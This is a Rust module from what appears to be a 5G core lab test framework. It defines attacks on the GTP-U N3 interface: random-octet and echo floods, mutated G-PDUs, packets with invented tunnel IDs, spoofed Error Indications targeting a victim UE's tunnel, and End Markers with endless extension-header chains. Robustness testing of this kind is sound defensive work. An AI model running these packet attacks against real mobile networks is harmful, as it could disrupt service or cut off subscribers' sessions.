//! A host on N3 that is not the good UE's gNB.

use std::net::{IpAddr, Ipv4Addr};

use causeway_lab::LabError;
use causeway_lab::topology::{DN, GNBS};
use causeway_packet::{Ipv4, gtpu};

use crate::environment::{Environment, HOSTILE_UE, VICTIM, teid};
use crate::packet::{g_pdu, mutate, noise, udp};
use crate::{Attack, Context};

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "n3-random-octets", about: "datagrams of random octets to N3", run: random_octets },
    Attack {
        name: "n3-mutated-packets",
        about: "G-PDUs of the hostile UE with up to four defects each",
        run: mutated_packets,
    },
    Attack {
        name: "n3-unknown-tunnels",
        about: "G-PDUs with invented TEIDs: the responses are not longer than the packets sent",
        run: unknown_tunnels,
    },
    Attack {
        name: "n3-error-indications",
        about: "Error Indications about the good UE's downlink tunnel from a host that is not its gNB",
        run: error_indications,
    },
    Attack { name: "n3-echoes", about: "Echo Requests as fast as possible", run: echoes },
    Attack {
        name: "n3-end-markers",
        about: "End Markers and chains of extension headers in the good UE's uplink tunnel",
        run: end_markers,
    },
];

/// Source and destination of an IPv4 packet.
pub(super) fn inner(packet: &[u8]) -> Option<(Ipv4Addr, Ipv4Addr)> {
    Ipv4::parse(packet).ok().map(|packet| (packet.src(), packet.dst()))
}

fn random_octets(scene: &mut Environment, context: &mut Context) -> Result<(), LabError> {
    while context.has_time_left() {
        let octets = noise(&mut context.random, 1400);
        scene.n3.send(&octets);
        context.sent += 1;
    }
    Ok(())
}

fn mutated_packets(scene: &mut Environment, context: &mut Context) -> Result<(), LabError> {
    let packet = udp((HOSTILE_UE, 1000), (DN, 9), b"a packet to be mutated");
    let packet = g_pdu(scene.hostile.uplink.teid, &packet);
    while context.has_time_left() {
        let mutant = mutate(&mut context.random, &packet);
        scene.n3.send(&mutant);
        context.sent += 1;
    }
    Ok(())
}

fn unknown_tunnels(scene: &mut Environment, context: &mut Context) -> Result<(), LabError> {
    let packet = udp((VICTIM, 1000), (DN, 9), &[0; 32]);
    let (mut sent, mut received) = (0, 0);
    while context.has_time_left() {
        for _ in 0..256 {
            let packet = g_pdu(teid(context.random.u32(1..))?, &packet);
            scene.n3.send(&packet);
            sent += packet.len();
        }
        context.sent += 256;
        received += scene.n3.drain().iter().map(Vec::len).sum::<usize>();
    }
    context.check(&format!("{sent} octets cause a response of {received}"), received <= sent);
    Ok(())
}

fn error_indications(scene: &mut Environment, context: &mut Context) -> Result<(), LabError> {
    let about = Some(scene.victim_downlink.teid);
    let indications = [GNBS[0], GNBS[1]]
        .map(|peer| gtpu::Repr::error_indication(about, IpAddr::V4(peer), &[]).to_vec().unwrap_or_default());
    while context.has_time_left() {
        indications.iter().for_each(|indication| scene.n3.send(indication));
        context.sent += 2;
        std::thread::sleep(std::time::Duration::from_micros(100));
    }
    Ok(())
}

fn echoes(scene: &mut Environment, context: &mut Context) -> Result<(), LabError> {
    while context.has_time_left() {
        let echo = gtpu::Repr::echo_request(context.random.u16(..)).to_vec().unwrap_or_default();
        scene.n3.send(&echo);
        context.sent += 1;
    }
    scene.n3.drain();
    Ok(())
}

fn end_markers(scene: &mut Environment, context: &mut Context) -> Result<(), LabError> {
    let tunnel = scene.victim.uplink.teid;
    let marker = gtpu::Repr::end_marker(tunnel).to_vec().unwrap_or_default();
    while context.has_time_left() {
        scene.n3.send(&marker);
        // A G-PDU with a chain of extension headers, of a type that must be understood, that never ends.
        let mut chain = vec![0x34, 255, 0, 0];
        chain.extend(tunnel.value().to_be_bytes());
        chain.extend([0, 0, 0, 0xc1]);
        (0..context.random.usize(1..300)).for_each(|_| chain.extend([1, 0, 0, 0xc1]));
        let length = (chain.len() - 8) as u16;
        chain[2..4].copy_from_slice(&length.to_be_bytes());
        scene.n3.send(&chain);
        context.sent += 2;
    }
    scene.n3.drain();
    Ok(())
}
